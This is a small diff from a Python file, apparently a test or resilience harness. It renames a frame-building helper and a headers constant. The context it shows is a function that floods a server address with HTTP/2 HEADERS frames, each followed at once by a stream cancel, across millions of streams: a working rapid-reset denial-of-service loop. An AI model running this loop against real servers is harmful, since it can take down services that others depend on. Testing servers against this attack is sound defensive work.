@@ -148,16 +148,16 @@ async def _reset_without_end(address: str) -> None:
     host, _, port = address.rpartition(":")
     _, writer = await asyncio.open_connection(host, int(port))
     try:
-        writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0, b""))
+        writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b""))
         for first in range(1, 10_000_000, 200):
             calls = range(first, first + 200, 2)
-            writer.write(b"".join(_frame(1, 4, at, _HEADERS) + _frame(3, 0, at, _CANCEL) for at in calls))
+            writer.write(b"".join(frame(1, 4, at, HEADERS) + frame(3, 0, at, _CANCEL) for at in calls))
             await writer.drain()
     finally:
         writer.transport.abort()  # what waits to be sent is not waited for
 
 
-def _frame(kind: int, flags: int, stream: int, content: bytes) -> bytes:
+def frame(kind: int, flags: int, stream: int, content: bytes) -> bytes:
     return len(content).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + content
 
 
@@ -166,7 +166,7 @@ def _header(name: bytes, value: bytes) -> bytes:
 
 
 _CANCEL = (8).to_bytes(4, "big")
-_HEADERS = (  # POST, http
+HEADERS = (  # POST, http
     b"\x83\x86"
     + _header(b":path", SEARCH.encode())
     + _header(b":authority", b"x")
